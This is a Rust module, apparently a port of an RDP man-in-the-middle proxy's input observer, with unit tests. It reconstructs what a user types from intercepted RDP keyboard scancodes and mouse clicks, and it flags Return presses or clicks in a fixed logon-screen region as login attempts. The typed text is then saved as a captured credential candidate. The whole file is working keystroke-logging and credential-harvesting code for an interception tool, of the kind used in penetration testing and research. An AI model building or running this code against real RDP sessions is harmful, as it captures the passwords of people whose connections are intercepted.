//! Keystroke/mouse observer: watches the input events a client sends and
//! reconstructs what was typed, the same way the original proxy's base path
//! MITM derives a login attempt from raw scancodes without ever decoding a
//! keyboard layout. Modifier state, not characters, is tracked across
//! events (`shiftPressed`, `ctrlPressed`, `capsLockOn`) since scancodes
//! alone don't carry shift level.
//!
//! A login attempt is recognised two ways: pressing Return, or clicking
//! inside a fixed fraction of the window (`0.5..0.65` on both axes) — the
//! region a typical Windows logon screen's password submission control
//! occupies regardless of resolution. Either one hands whatever is in the
//! input buffer to [`RDPMITMState::credentials_candidate`] and clears the
//! buffer, unless the session is already logged in or nothing was typed.

use pyrdp_pdu::input::{KeyboardFlags, MouseEvent, PointerFlags, ScanCodeEvent};
use pyrdp_session::RDPMITMState;

const SCAN_CODE_LSHIFT: u16 = 0x2A;
const SCAN_CODE_RSHIFT: u16 = 0x36;
const SCAN_CODE_CAPSLOCK: u16 = 0x3A;
const SCAN_CODE_CONTROL: u16 = 0x1D;
const SCAN_CODE_BACKSPACE: u16 = 0x0E;
const SCAN_CODE_TAB: u16 = 0x0F;
const SCAN_CODE_A: u16 = 0x1E;
const SCAN_CODE_SPACE: u16 = 0x39;
const SCAN_CODE_RETURN: u16 = 0x1C;

/// Set-1 scancode to printable character, for the subset of keys whose
/// glyph doesn't depend on a keyboard layout (digits and the unshifted
/// QWERTY letters). Anything else is simply not captured.
fn printable_char(scan_code: u16) -> Option<char> {
    const ROWS: &[(u16, char)] = &[
        (0x02, '1'),
        (0x03, '2'),
        (0x04, '3'),
        (0x05, '4'),
        (0x06, '5'),
        (0x07, '6'),
        (0x08, '7'),
        (0x09, '8'),
        (0x0A, '9'),
        (0x0B, '0'),
        (0x10, 'q'),
        (0x11, 'w'),
        (0x12, 'e'),
        (0x13, 'r'),
        (0x14, 't'),
        (0x15, 'y'),
        (0x16, 'u'),
        (0x17, 'i'),
        (0x18, 'o'),
        (0x19, 'p'),
        (0x1E, 'a'),
        (0x1F, 's'),
        (0x20, 'd'),
        (0x21, 'f'),
        (0x22, 'g'),
        (0x23, 'h'),
        (0x24, 'j'),
        (0x25, 'k'),
        (0x26, 'l'),
        (0x2C, 'z'),
        (0x2D, 'x'),
        (0x2E, 'c'),
        (0x2F, 'v'),
        (0x30, 'b'),
        (0x31, 'n'),
        (0x32, 'm'),
    ];
    ROWS.iter().find(|&&(code, _)| code == scan_code).map(|&(_, ch)| ch)
}

/// Watches input events for one session and derives a login candidate.
#[derive(Debug, Default)]
pub struct InputObserver;

impl InputObserver {
    pub fn new() -> Self {
        Self
    }

    pub fn on_scan_code(&mut self, state: &mut RDPMITMState, event: &ScanCodeEvent) {
        let is_released = event.flags.contains(KeyboardFlags::RELEASE);
        let code = event.key_code;

        match code {
            SCAN_CODE_LSHIFT | SCAN_CODE_RSHIFT => state.shift_pressed = !is_released,
            SCAN_CODE_CONTROL => state.ctrl_pressed = !is_released,
            SCAN_CODE_CAPSLOCK if !is_released => state.caps_lock_on = !state.caps_lock_on,
            SCAN_CODE_BACKSPACE if !is_released => state.input_buffer.push_str("<\\b>"),
            SCAN_CODE_TAB if !is_released => state.input_buffer.push_str("<\\t>"),
            SCAN_CODE_A if state.ctrl_pressed && !is_released => state.input_buffer.push_str("<ctrl-a>"),
            SCAN_CODE_SPACE if !is_released => state.input_buffer.push(' '),
            SCAN_CODE_RETURN if !is_released => self.login_attempt(state),
            _ => {
                if !is_released {
                    if let Some(ch) = printable_char(code) {
                        state.input_buffer.push(ch);
                    }
                }
            }
        }
    }

    pub fn on_mouse(&mut self, state: &mut RDPMITMState, event: &MouseEvent) {
        if !event.flags.contains(PointerFlags::DOWN) {
            return;
        }

        let (width, height) = state.window_size;
        if width == 0 || height == 0 {
            return;
        }

        let percent_x = event.x_position as f64 / width as f64;
        let percent_y = event.y_position as f64 / height as f64;

        if (0.5..0.65).contains(&percent_x) && (0.5..0.65).contains(&percent_y) {
            self.login_attempt(state);
        }
    }

    fn login_attempt(&mut self, state: &mut RDPMITMState) {
        if state.logged_in || state.input_buffer.is_empty() {
            return;
        }

        let candidate = std::mem::take(&mut state.input_buffer);
        tracing::info!(len = candidate.len(), "captured a login attempt");
        state.credentials_candidate = Some(candidate);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan_code(code: u16, released: bool) -> ScanCodeEvent {
        let mut flags = KeyboardFlags::empty();
        if released {
            flags |= KeyboardFlags::RELEASE;
        }
        ScanCodeEvent { flags, key_code: code }
    }

    #[test]
    fn typing_and_return_captures_credentials_candidate() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();

        for code in [SCAN_CODE_A, 0x30, 0x2E] {
            observer.on_scan_code(&mut state, &scan_code(code, false));
            observer.on_scan_code(&mut state, &scan_code(code, true));
        }
        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_RETURN, false));

        assert_eq!(state.credentials_candidate.as_deref(), Some("abc"));
        assert_eq!(state.input_buffer, "");
    }

    #[test]
    fn release_events_do_not_append_to_buffer() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();

        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_A, true));
        assert_eq!(state.input_buffer, "");
    }

    #[test]
    fn backspace_and_tab_are_recorded_as_escape_sequences() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();

        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_BACKSPACE, false));
        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_TAB, false));

        assert_eq!(state.input_buffer, "<\\b><\\t>");
    }

    #[test]
    fn ctrl_a_is_recorded_distinctly_from_plain_a() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();

        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_CONTROL, false));
        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_A, false));

        assert_eq!(state.input_buffer, "<ctrl-a>");
    }

    #[test]
    fn click_inside_login_region_triggers_login_attempt() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();
        state.window_size = (1000, 1000);
        state.input_buffer = "typed".to_string();

        let mut flags = PointerFlags::DOWN;
        flags |= PointerFlags::LEFT_BUTTON;
        let event = MouseEvent {
            flags,
            number_of_wheel_rotation_units: 0,
            x_position: 550,
            y_position: 600,
        };
        observer.on_mouse(&mut state, &event);

        assert_eq!(state.credentials_candidate.as_deref(), Some("typed"));
    }

    #[test]
    fn click_outside_login_region_is_ignored() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();
        state.window_size = (1000, 1000);
        state.input_buffer = "typed".to_string();

        let event = MouseEvent {
            flags: PointerFlags::DOWN,
            number_of_wheel_rotation_units: 0,
            x_position: 10,
            y_position: 10,
        };
        observer.on_mouse(&mut state, &event);

        assert_eq!(state.credentials_candidate, None);
        assert_eq!(state.input_buffer, "typed");
    }

    #[test]
    fn already_logged_in_session_never_overwrites_candidate() {
        let mut observer = InputObserver::new();
        let mut state = RDPMITMState::new();
        state.logged_in = true;
        state.input_buffer = "ignored".to_string();

        observer.on_scan_code(&mut state, &scan_code(SCAN_CODE_RETURN, false));

        assert_eq!(state.credentials_candidate, None);
        assert_eq!(state.input_buffer, "ignored");
    }
}
